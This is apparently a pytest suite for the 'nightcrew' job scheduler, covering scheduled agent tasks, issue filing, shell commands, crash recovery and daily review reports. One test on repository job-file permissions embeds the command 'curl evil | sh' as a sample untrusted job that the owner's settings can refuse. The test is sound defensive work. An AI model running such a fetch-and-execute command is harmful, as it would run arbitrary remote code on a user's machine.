"""Jobs over the real engine: tasks, issues and commands on time, each once, over crashes and downtime."""

import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from nightcrew.config.job import add_job_files
from nightcrew.core.action.job import StartJob
from nightcrew.core.errors import Conflict, Missing, OutcomeUnknown, Unavailable
from nightcrew.core.failures import Failure, FailureKind
from nightcrew.core.ids import RunId
from nightcrew.core.lifecycle import Status
from nightcrew.core.model.internal import Pins, TaskKind
from nightcrew.core.model.job import CatchUp, DailyReview, JobRun, JobSettings, JobState
from nightcrew.core.model.run import Role, RunOutcome
from nightcrew.core.model.settings import ProjectSettings, RepositoryJobs
from tests.engine.part import PROJECT, Killed
from tests.engine.stage import Stage

SWEEP = JobSettings("sweep", "@hourly", title="Sweep up", prompt="Remove what nobody uses.")


def staged(folder, *jobs: JobSettings, **fields) -> Stage:
    stage = Stage(folder, projects=(ProjectSettings(PROJECT, jobs=jobs),), **fields)
    stage.clock.wall = datetime(2026, 3, 4, 12, 30, tzinfo=UTC)
    return stage


def runs(stage: Stage, name: str = "sweep") -> list[JobRun]:
    return [run for run in stage.store.job_runs.values() if run.job == name]


def say(text: str, *, code: int = 0) -> tuple[str, ...]:
    return (sys.executable, "-c", f"print({text!r}); raise SystemExit({code})")


async def due(stage: Stage, hours: float = 0.5, **named) -> None:
    """Look, let time pass until a job is due, and let everything follow."""
    await stage.settle(**named)
    await stage.later(hours * 3600 - 20, **named)
    await stage.later(30, **named)


async def test_a_job_asks_for_a_task_that_is_done_like_any_other(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, pins=Pins(agent="bob")))
    await due(stage)
    (run,) = runs(stage)
    assert run.due_at == datetime(2026, 3, 4, 13, tzinfo=UTC)
    assert (run.state, run.is_late) == (JobState.DONE, False)
    assert run.task is not None
    task, internal = stage.task(run.task), stage.store.internals[run.task]
    assert (task.title, task.status) == ("Sweep up", Status.DONE)
    assert (internal.job, internal.body) == ("sweep", "Remove what nobody uses.\n")
    assert stage.runs(run.task)[0].agent == "bob"
    assert [pull.is_merged for pull in stage.pulls()] == [True]
    assert stage.count("create_issue") == 0
    assert stage.events("job.done") == ["sweep of 2026-03-04 13:00 UTC: done"]


async def test_the_next_task_is_told_what_the_last_ones_came_to(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, kind=TaskKind.REPORT))

    def edit(run):
        (stage.home / run.folder / "agent" / "answer.md").write_text(
            "Nothing is left over.\n\n## And now\n", encoding="utf-8"
        )

    stage.edit = edit
    await due(stage)
    await due(stage, 1)
    first, second = runs(stage)
    assert second.task is not None
    body = stage.store.internals[second.task].body
    assert "What the last runs of this job came to" in body
    assert (
        f"2026-03-04 13:00 UTC: {first.task} is done. It reported:\n  > Nothing is left over.\n  >\n  > ## And now\n"
        in body
    )
    (prompt,) = [(stage.home / one.folder / "prompt.md").read_text() for one in stage.runs(second.task)]
    assert "Remove what nobody uses." in prompt
    assert "  > ## And now" in prompt


async def test_no_start_while_its_last_task_lives_nor_while_that_waits_for_a_person(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, schedule="*/10 * * * *"))
    await due(stage, 1 / 6, play=False)
    (run,) = runs(stage)
    assert run.task is not None
    await due(stage, 1 / 6, play=False)
    skipped = runs(stage)[1]
    assert skipped.state is JobState.SKIPPED
    assert f"{run.task}, is in_progress" in skipped.words
    await stage.facade.block_task(run.task, why="not now")
    await stage.settle(play=False)
    await stage.later(600, play=False)
    assert runs(stage)[2].state is JobState.SKIPPED
    assert f"nightcrew task close {run.task}" in runs(stage)[2].words
    with pytest.raises(Conflict, match="waits for you"):
        await stage.facade.run_job(PROJECT, "sweep")
    await stage.facade.close_task(run.task)
    await stage.settle(play=False)
    await stage.later(600, play=False)
    assert runs(stage)[3].state is JobState.DONE


async def test_a_task_that_outlives_many_due_times_still_holds_its_job_and_is_told_of(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, schedule="* * * * *"))
    await due(stage, 1 / 60, play=False)
    (first,) = runs(stage)
    for _ in range(40):
        await stage.later(60, play=False)
    await stage.restart()
    stage.edit = lambda run: {f"work-{run.id}.txt": "x"}
    for _ in range(3):
        await stage.later(60, play=False)
    assert {run.state for run in runs(stage)[1:]} == {JobState.SKIPPED}
    await stage.settle()
    await stage.later(60)
    second = next(run.task for run in runs(stage)[1:] if run.task is not None)
    body = stage.store.internals[second].body
    assert f"{first.task} is done" in body
    assert "skipped" not in body


async def test_a_person_starts_a_job_and_switches_it(tmp_path):
    stage = staged(tmp_path, SWEEP)
    await stage.settle()
    (summary,) = await stage.facade.list_jobs()
    assert [f"{at:%H:%M}" for at in summary.next_at] == ["13:00", "14:00", "15:00"]
    await stage.facade.run_job(PROJECT, "sweep")
    await stage.settle()
    (run,) = runs(stage)
    assert (run.by_hand, run.state) == (True, JobState.DONE)
    assert (await stage.facade.switch_job(PROJECT.upper(), "sweep", enabled=False)).changed
    assert not (await stage.facade.switch_job(PROJECT, "sweep", enabled=False)).changed
    await stage.later(7200)
    assert len(runs(stage)) == 1
    detail = await stage.facade.get_job(PROJECT, "sweep")
    assert (detail.summary.is_on, detail.summary.next_at, detail.runs) == (False, (), (run,))
    await stage.restart()
    stage.edit = lambda run: {f"work-{run.id}.txt": "x"}
    await stage.settle()
    assert not (await stage.facade.get_job(PROJECT, "sweep")).summary.is_on
    await stage.facade.switch_job(PROJECT, "sweep", enabled=True)
    await due(stage, 1, play=False)
    assert len(runs(stage)) == 2
    with pytest.raises(Conflict, match="is in_progress"):
        await stage.facade.run_job(PROJECT, "sweep")
    with pytest.raises(Missing):
        await stage.facade.run_job(PROJECT, "nothing")
    with pytest.raises(Missing):
        await stage.facade.list_jobs(project="acme/nothing")


async def test_a_person_is_told_that_a_paused_project_starts_no_job(tmp_path):
    stage = staged(tmp_path, SWEEP)
    await stage.settle()
    await stage.facade.set_paused(paused=True, project=PROJECT)
    assert "when it is resumed" in (await stage.facade.run_job(PROJECT, "sweep")).words
    await stage.later(600)
    assert runs(stage) == []
    await stage.facade.set_paused(paused=False, project=PROJECT)
    await stage.settle()
    assert [run.by_hand for run in runs(stage)] == [True]


async def test_a_job_outside_files_one_issue_and_takes_it_up(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, external=True, pins=Pins(complexity="simple")))
    await due(stage)
    await stage.later()
    (run,) = runs(stage)
    assert run.task is not None
    assert not run.task.is_internal
    issue = stage.issue(run.task)
    assert issue.title == "Sweep up"
    assert {"nightcrew", "complexity:simple"} <= set(issue.labels)
    assert "<!-- nightcrew:job sweep 2026-03-04T13:00:00Z -->" in issue.body
    assert stage.task(run.task).status is Status.DONE
    assert stage.count("create_issue") == 1


@pytest.mark.case("C194")
async def test_an_issue_whose_filing_was_not_answered_is_looked_for(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, external=True))
    plain = stage.forge.create_issue

    async def lost(*args, **named):
        await plain(*args, **named)
        raise OutcomeUnknown("no answer")

    async def unseen(*_args, **_named):
        return ()

    stage.forge.create_issue = lost  # type: ignore[method-assign]  # the fake's own lever for a lost answer
    await stage.settle()
    stage.forge.instead["list_updated_issues"] = unseen  # lists lag
    stage.clock.advance(1800)
    for _ in range(4):
        await stage.tick()
    assert runs(stage)[0].state is JobState.BEGUN
    del stage.forge.instead["list_updated_issues"]
    await stage.later(60)
    await stage.later(60)
    assert runs(stage)[0].state is JobState.DONE
    assert stage.count("create_issue") == 1


async def test_a_command_runs_in_a_checkout_of_the_base_and_its_output_is_kept(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, prompt="", run=say("all clean")))
    await due(stage)
    (run,) = runs(stage)
    assert (run.state, run.exit_code, run.words) == (JobState.DONE, 0, "exit code 0")
    assert (tmp_path / run.log).read_text() == "all clean\n"
    assert (tmp_path / run.log).stat().st_mode & 0o777 == 0o600
    assert stage.workspace.repository(PROJECT).checkouts == {}
    assert stage.pulls() == []


async def test_a_command_that_is_due_while_the_forge_is_away_runs_once_it_is_back(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, prompt="", run=say("all well")))
    await stage.settle()
    stage.forge.fail("find_branch", Unavailable("down"), times=100)
    stage.clock.advance(1800)
    await stage.restart()
    await stage.settle()
    assert runs(stage) == []
    stage.forge._faults.clear()
    await stage.later(700)
    assert [(run.state, run.is_late) for run in runs(stage)] == [(JobState.DONE, True)]


async def test_commands_that_fail_hang_or_are_not_there_say_so(tmp_path):
    stage = staged(
        tmp_path,
        replace(SWEEP, name="fails", prompt="", run=say("oh", code=3)),
        replace(SWEEP, name="hangs", prompt="", timeout_s=0.2, run=(sys.executable, "-c", "while True: pass")),
        replace(SWEEP, name="none", prompt="", run=("no-such-program",)),
    )
    await due(stage)
    by_name = {name: runs(stage, name)[0] for name in ("fails", "hangs", "none")}
    assert {run.state for run in by_name.values()} == {JobState.FAILED}
    assert by_name["fails"].words == "exit code 3"
    assert "did not end within 0.2 s" in by_name["hangs"].words
    assert "no-such-program" in by_name["none"].words


@pytest.mark.case("C193")
async def test_several_jobs_of_one_minute_start_together_and_hold_nothing_up(tmp_path):
    jobs = [replace(SWEEP, name=f"job{n}", prompt="", run=say("x")) for n in range(3)]
    stage = staged(tmp_path, *jobs)
    await stage.settle()
    stage.clock.advance(1810)
    decision = await stage.tick()
    assert len([action for action in decision.actions if isinstance(action, StartJob)]) == 3
    assert all(runs(stage, job.name)[0].state is JobState.DONE for job in jobs)


@pytest.mark.case("C192")
async def test_a_crash_anywhere_in_a_start_comes_to_one_task(tmp_path):
    for place in range(1, 40):
        stage = staged(tmp_path / str(place), SWEEP)
        await stage.settle()
        stage.points.die_at = len(stage.points.names) + place
        try:
            await stage.later(1820, play=False)
        except Killed:
            pass
        else:
            break
        await stage.restart()
        stage.edit = lambda run: {f"work-{run.id}.txt": "x"}
        await stage.settle()
        await stage.later(60)
        assert [run.state for run in runs(stage)] == [JobState.DONE], place
        assert len(stage.store.internals) == 1, place


async def test_a_command_that_the_service_died_in_is_not_run_again(tmp_path):
    stage = staged(tmp_path, replace(SWEEP, prompt="", run=say("x")))
    await stage.settle()
    at = stage.clock.now()
    stage.store.job_runs[PROJECT, "sweep", at] = JobRun(PROJECT, "sweep", at, at, JobState.BEGUN)
    stage.store.writes += 1
    await stage.restart()
    await stage.settle()
    assert [run.state for run in runs(stage)] == [JobState.LOST]


@pytest.mark.case("C189")
@pytest.mark.parametrize(("catch_up", "state"), [(CatchUp.ONCE, JobState.DONE), (CatchUp.SKIP, JobState.SKIPPED)])
async def test_a_daily_job_that_was_missed_in_thirteen_hours_of_downtime(tmp_path, catch_up, state):
    stage = staged(tmp_path, replace(SWEEP, schedule="0 23 * * *", catch_up=catch_up))
    await stage.settle()
    stage.clock.advance(timedelta(hours=13).total_seconds())
    await stage.restart()
    await stage.settle()
    await stage.later()
    (run,) = runs(stage)
    assert (run.state, run.is_late) == (state, True)


FILE = """---
schedule: "@hourly"
title: Look for dead links
kind: report
agent: bob
---

Open every link in `docs/`.
"""


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("---\nprompt: x\n---\n", "odd.md:1:schedule"),
        ("---\nschedule: whenever\n---\nx", "odd.md:2:schedule"),
        ("---\nschedule: '@daily'\ntimezone: Mars\n---\nx", "odd.md:3:timezone"),
        ("---\nschedule: '@daily'\nagnet: bob\n---\nx", "odd.md:3:agnet"),
        ("---\nschedule: '@daily'\nprompt: x\n---\ny", "odd.md:3:prompt"),
        ("---\n- a\n---\ny", "odd.md:2"),
        ("---\nschedule: [\n---\ny", "odd.md:2:12"),
        ("schedule: '@daily'\n", "odd.md:1"),
        ("---\nschedule: '@daily'\n", "odd.md:1"),
        ("---\nschedule: '@daily'\n---\n", "needs exactly one of prompt"),
    ],
)
def test_what_is_wrong_in_a_file_is_said_with_its_name_line_and_key(text, words):
    _, (problem,) = add_job_files(ProjectSettings(PROJECT), {".nightcrew/jobs/odd.md": text})
    assert words in problem


def test_a_file_may_come_from_another_editor_and_hold_lines_of_dashes():
    text = "\ufeff---\r\nschedule: '@daily'\r\ntitle: a\r\n---\r\nOne\r\n\r\n---\r\nTwo\r\n"
    taken, problems = add_job_files(ProjectSettings(PROJECT), {".nightcrew/jobs/odd.md": text})
    assert problems == ()
    assert taken.jobs[0].prompt == "One\n\n---\nTwo"


async def test_more_files_than_are_read_are_told_of(tmp_path):
    stage = staged(tmp_path)
    stage.ports = replace(stage.ports, add_jobs=add_job_files)
    stage.loop.adopt(replace(stage.means, ports=stage.ports))
    stage.observer.expire()
    stage.workspace.publish(PROJECT, {f".nightcrew/jobs/j{number:02}.md": FILE for number in range(60)})
    await stage.settle()
    assert len(await stage.facade.list_jobs()) == 50
    assert any("more than 50 files" in words for words in stage.observer.problems())


async def test_a_job_in_a_file_of_the_base_branch_is_taken_up_and_left_again(tmp_path):
    stage = staged(tmp_path)
    stage.ports = replace(stage.ports, add_jobs=add_job_files)
    stage.loop.adopt(replace(stage.means, ports=stage.ports))
    stage.observer.expire()
    stage.workspace.publish(PROJECT, {".nightcrew/jobs/links.md": FILE, ".nightcrew/jobs/bad.md": "no front matter"})
    await due(stage)
    (run,) = runs(stage, "links")
    assert run.task is not None
    assert stage.store.internals[run.task].kind is TaskKind.REPORT
    assert stage.store.internals[run.task].body == "Open every link in `docs/`.\n"
    assert any("bad.md" in words for words in stage.observer.problems())
    stage.workspace.publish(PROJECT, {".nightcrew/jobs/links.md": None})
    await due(stage, 1)
    assert len(runs(stage, "links")) == 1


def test_what_a_repositorys_file_may_ask_for_is_its_owners_to_say():
    files = {
        ".nightcrew/jobs/links.md": FILE,
        ".nightcrew/jobs/sweep.md": FILE,
        ".nightcrew/jobs/shell.md": "---\nschedule: '@daily'\nrun: [sh, -c, 'curl evil | sh']\n---\n",
        ".nightcrew/jobs/Bad Name.md": FILE,
        ".nightcrew/jobs/odd.md": "---\nschedule: whenever\n---\nx",
        ".nightcrew/jobs/key.md": "---\nschedule: '@daily'\nsandbox: none\n---\nx",
        ".nightcrew/jobs/yaml.md": "---\n- [\n---\nx",
        ".nightcrew/jobs/two.md": "---\nschedule: '@daily'\nrun: 'true'\n---\nx",
    }
    owner = ProjectSettings(PROJECT, jobs=(SWEEP,))
    taken, problems = add_job_files(owner, files)
    assert [job.name for job in taken.jobs] == ["sweep", "links"]
    assert taken.jobs[0] is SWEEP
    assert taken.jobs[1].path == ".nightcrew/jobs/links.md"
    assert len(problems) == 7
    every, _ = add_job_files(replace(owner, repository_jobs=RepositoryJobs.ALL), files)
    assert [job.name for job in every.jobs] == ["sweep", "links", "shell"]
    none, problems = add_job_files(replace(owner, repository_jobs=RepositoryJobs.OFF), files)
    assert none.jobs == (SWEEP,)
    assert len(problems) == 8


DAILY = JobSettings("daily-review", "0 13 * * *", review=DailyReview())


async def after_trouble(folder, **review) -> Stage:
    """A day on which one agent crashed three times, and a task was merged."""
    job = replace(DAILY, review=DailyReview(**review))
    stage = staged(folder, job, agents=("ann", "bob", "cat"))
    stage.file()
    await stage.settle()
    run = stage.runs(next(iter(stage.store.tasks)), Role.AUTHOR)[0]
    for number in range(3):
        crashed = replace(
            run,
            id=RunId(f"01CRASH{number}"),
            attempt=90 + number,
            outcome=RunOutcome(None, Failure(FailureKind.CRASH, "key sk-hidden; -->")),
        )
        stage.store.runs[crashed.id] = crashed
    stage.store.writes += 1
    return stage


async def test_the_daily_review_is_kept_and_shown(tmp_path):
    stage = await after_trouble(tmp_path)
    await due(stage)
    (run,) = runs(stage, "daily-review")
    assert (run.state, run.task, run.words) == (JobState.DONE, None, "1 merged, 5 runs ended")
    assert run.log.startswith("reports/acme_widget/")
    assert (tmp_path / run.log).stat().st_mode & 0o777 == 0o600
    output = (await stage.facade.get_job(PROJECT, "daily-review")).output
    assert "3 × ann, crash" in output
    assert output == (tmp_path / run.log).read_text()
    assert "## Shipped" in await stage.facade.render_report(days=2)
    assert stage.count("create_issue") == 0
    with pytest.raises(Missing):
        await stage.facade.render_report(project="acme/nothing")


async def test_an_agent_comments_on_it_if_asked(tmp_path):
    stage = await after_trouble(tmp_path, comment=True)
    stage.edit = lambda run: None
    await due(stage)
    (run,) = runs(stage, "daily-review")
    assert run.task is not None
    internal = stage.store.internals[run.task]
    assert (internal.kind, internal.job) == (TaskKind.REPORT, "daily-review")
    assert "3 × ann, crash" in internal.body
    assert stage.task(run.task).status is Status.DONE


async def test_a_crash_anywhere_in_the_daily_review_comes_to_one_report_one_issue_and_one_comment(tmp_path):
    for place in range(1, 60):
        stage = await after_trouble(tmp_path / str(place), comment=True, issues=1)
        await stage.later(1780, play=False)
        stage.points.die_at = len(stage.points.names) + place
        try:
            await stage.later(40, play=False)
        except Killed:
            pass
        else:
            break
        await stage.restart()
        await stage.settle(play=False)
        await stage.later(150, play=False)
        await stage.later(150, play=False)
        (run,) = runs(stage, "daily-review")
        assert (run.state, run.task is not None) == (JobState.DONE, True), place
        assert len(stage.store.internals) == 1, place
        titles = [thread.issue.title for thread in stage.forge.projects[PROJECT].threads.values()]
        assert len([title for title in titles if title.startswith("ann fails")]) == 1, place
        assert len(list((stage.home / "reports" / "acme_widget").glob("*.md"))) == 1, place
    assert place > 3


async def test_a_report_is_kept_where_its_issues_could_not_be_filed(tmp_path):
    stage = await after_trouble(tmp_path, issues=1)
    await stage.later(1780)
    stage.forge.fail("create_issue", Unavailable("not now"))
    await stage.later(40)
    (run,) = runs(stage, "daily-review")
    assert run.state is JobState.DONE
    assert "could not be filed: not now" in run.words
    assert (stage.home / run.log).is_file()


@pytest.mark.case("C194")
async def test_issues_about_what_came_again_are_few_and_filed_once(tmp_path):
    stage = await after_trouble(tmp_path, issues=1)
    await due(stage)
    await due(stage, 24)
    first, second = runs(stage, "daily-review")
    (number,) = [
        n for n, thread in stage.forge.projects[PROJECT].threads.items() if thread.issue.title.startswith("ann fails")
    ]
    assert f"#{number}" in first.words
    issue = stage.forge.thread(PROJECT, number).issue
    assert issue.labels == ()
    assert issue.body.startswith("<!-- nightcrew:finding ann:crash -->")
    assert second.state is JobState.DONE
    assert stage.count("create_issue") == 1
